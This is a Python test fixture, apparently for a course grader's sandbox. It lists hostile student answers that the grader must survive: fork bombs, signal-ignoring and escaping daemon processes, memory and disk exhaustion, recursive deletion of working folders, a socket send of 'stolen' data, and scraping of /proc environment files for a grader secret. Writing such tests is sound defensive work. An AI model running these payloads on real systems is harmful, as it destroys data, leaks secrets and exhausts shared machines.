"""Answers that want the machine: time, memory, disk, processes, secrets."""

from tests.security.forgeries import at_import, in_function

MARKER = "course-grader-survivor"
RESOURCES = {
    "27 a loop without end": in_function("while True: pass"),
    "27b a loop at import": at_import("while True: pass"),
    "28 deaf to signals": in_function(
        "import signal, time\n"
        "for n in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM):\n"
        "    signal.signal(n, signal.SIG_IGN)\n"
        "time.sleep(60)"
    ),
    "29 eight gigabytes": in_function("bytearray(8 * 2**30)"),
    "30 four hundred forks": in_function(
        "import os, time\n"
        "for _ in range(400):\n"
        "    if os.fork() == 0:\n"
        "        time.sleep(30)\n"
        "        os._exit(0)"
    ),
    "31 a flood of output": in_function("for _ in range(2000): print('x' * 100_000)"),
    "32 a daemon writes later": in_function(
        "import os, sys, time\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        f"        os.execv(sys.executable, [sys.executable, '-c', "
        f"'import time; time.sleep(30)', '{MARKER}'])\n"
        "    os._exit(0)\n"
        "os.wait(); time.sleep(0.1)"
    ),
    "33 delete everything": in_function(
        "import os, shutil\n"
        "for p in (os.getcwd(), '{folder}'):\n"
        "    shutil.rmtree(p, ignore_errors=True)"
    ),
    "34 call out": in_function(
        "import socket\n"
        "socket.create_connection(('127.0.0.1', {port}), 1).sendall(b'stolen')"
    ),
    "35 read the environment": in_function(
        "import glob, os\n"
        "found = [str(dict(os.environ))]\n"
        "for p in glob.glob('/proc/*/environ'):\n"
        "    try: found.append(open(p, 'rb').read().decode('latin-1'))\n"
        "    except OSError: pass\n"
        "name = 'GRADER_' + '{secret}'\n"
        "raise RuntimeError([t[t.index(name):][:40] for t in found if name in t])"
    ),
    "36 fill the disk": in_function(
        "for n in range(300):\n"
        "    with open(f'file{{n}}', 'wb') as file: file.write(bytes(2**20 - 1))"
    ),
    "37 recursion without end": in_function(
        "import sys; sys.setrecursionlimit(10**9)\n"
        "def down(x): return down([x])\n"
        "down(1)"
    ),
    "38 a null pointer": in_function("import ctypes; ctypes.string_at(0)"),
    "71 a value without end": in_function("numbers.append(numbers)\nreturn numbers"),
    "72 a huge integer": in_function("return 10**(4 * 10**7)"),
    "73 a message without end": in_function("raise RuntimeError('x' * 10**8)"),
}
